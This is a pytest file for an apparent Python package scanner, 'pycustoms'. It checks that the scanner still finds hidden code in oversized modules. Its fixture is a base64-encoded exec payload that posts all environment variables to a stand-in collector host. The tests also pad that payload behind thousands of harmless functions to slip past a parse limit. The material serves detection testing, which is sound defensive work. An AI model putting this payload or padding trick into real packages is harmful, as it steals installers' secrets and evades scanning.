"""Modules too large to parse whole: the statements holding trigger words are still walked."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from pycustoms.analyzers.code import large_source
from pycustoms.analyzers.code.analyze import TEXT_LIMIT
from pycustoms.analyzers.code.large_source import PARTLY, partly_analysed, reduce_source
from pycustoms.config import Policy
from pycustoms.scan import scan_target
from pycustoms.types import Decision, Severity
from tests.builders import build_wheel

BODY = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://collector.example-metrics.net/u', "
    "data=str(dict(os.environ)).encode())\n"
)
PAYLOAD = f"import base64\nexec(base64.b64decode({base64.b64encode(BODY.encode()).decode()!r}))\n"


def _padding(size: int, line: str = "def f{i}(x):\n    return x * {i}\n\n") -> str:
    """Ordinary-looking functions, at least *size* characters of them."""
    out: list[str] = []
    total = i = 0
    while total < size:
        out.append(line.format(i=i))
        total += len(out[-1])
        i += 1
    return "".join(out)


def _scan(tmp_path: Path, module: str) -> tuple[Decision, set[str], list[int]]:
    files = {"pkg/__init__.py": "from .core import *\n", "pkg/core.py": module}
    result = scan_target(build_wheel(tmp_path, "pkg", "1.0", files), Policy())
    assert result.error is None, result.error
    findings = result.verdict.findings
    lines = [f.line for f in findings if f.file == "pkg/core.py" and f.line is not None]
    return result.verdict.decision, {f.rule for f in findings}, lines


def test_a_payload_padded_past_the_parse_limit_is_walked(tmp_path: Path) -> None:
    padding = _padding(TEXT_LIMIT + 4096)
    decision, rules, lines = _scan(tmp_path, padding + PAYLOAD)
    assert decision is Decision.BLOCK, rules
    assert "code/exec-decoded-payload" in rules
    # Line numbers are those of the whole file.
    assert padding.count("\n") + 2 in lines


def test_the_payload_wins_the_budget_over_ordinary_triggers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Every function spawns a process: more statements than the budget keeps (made
    # small here so that the test walks less).
    monkeypatch.setattr(large_source, "MAX_KEPT", 256 * 1024)
    busy = "import subprocess\n" + _padding(
        TEXT_LIMIT + 4096, "def f{i}(x):\n    return subprocess.run([x, '{i}'])\n\n"
    )
    (tmp_path / "ordinary").mkdir()
    decision, rules, _ = _scan(tmp_path / "ordinary", busy)
    assert decision is Decision.ALLOW, rules
    assert PARTLY in rules  # said, at INFO: it does not move the verdict
    (tmp_path / "payload").mkdir()
    decision, rules, _ = _scan(tmp_path / "payload", busy + PAYLOAD)
    assert decision is Decision.BLOCK, rules


def test_a_statement_cut_inside_a_string_is_widened_until_it_parses() -> None:
    # Column-0 text inside a docstring looks like a statement start.
    text = (
        "import base64\n"
        'def helper():\n    """Docs.\n'
        "exec(base64.b64decode(x)) is how not to do it\n"
        '"""\n    return 1\n' + PAYLOAD
    )
    reduced = reduce_source(text.encode(), text)
    assert reduced is not None
    assert reduced.text.count("\n") == text.count("\n")  # same lines, others blanked
    assert "exec(base64.b64decode(x)) is how not to do it" in reduced.text
    assert 'def helper():\n    """Docs.' in reduced.text
    assert reduced.text.rstrip().endswith(PAYLOAD.rstrip())
    assert reduced.skipped == 0


def test_the_note_is_informational() -> None:
    text = "import os\n" + "x = [\n" + "    os.popen,\n" * 10 + "\n"  # never closed
    reduced = reduce_source(text.encode(), text)
    assert reduced is not None
    assert reduced.skipped == 1
    note = partly_analysed("pkg/core.py", reduced, 5 << 20)
    assert note.severity is Severity.INFO
    assert "1 statement(s)" in note.message
